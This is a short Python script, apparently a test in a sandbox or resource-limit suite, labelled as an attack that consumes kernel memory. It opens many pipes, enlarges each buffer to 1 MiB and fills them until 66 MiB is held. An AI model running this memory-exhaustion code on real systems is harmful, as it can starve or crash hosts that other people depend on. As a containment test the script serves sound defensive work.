# attack: take kernel memory in pipes
# success: more than the limit is in use
import fcntl
import os
from support.raw import got

print("TRIED", flush=True)
total = 0
ends = []
try:
    while total < 66 << 20:
        read, write = os.pipe()
        ends.append((read, write))
        try:
            fcntl.fcntl(write, 1031, 1 << 20)
        except OSError:
            pass
        os.set_blocking(write, False)
        try:
            while True:
                total += os.write(write, b"x" * (1 << 16))
        except BlockingIOError:
            pass
    got("66 MiB")
except OSError as error:
    print(total, error, flush=True)
